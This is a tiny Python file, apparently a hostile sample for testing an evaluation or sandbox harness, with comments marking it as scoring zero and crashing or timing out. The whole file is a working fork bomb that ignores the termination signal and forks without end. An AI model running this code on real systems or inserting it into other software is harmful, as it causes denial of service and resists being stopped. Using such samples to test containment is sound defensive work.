"""Forks without end before anything else, and ignores what it is told."""
# score: 0
# status: crashed or timed_out

import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        pass
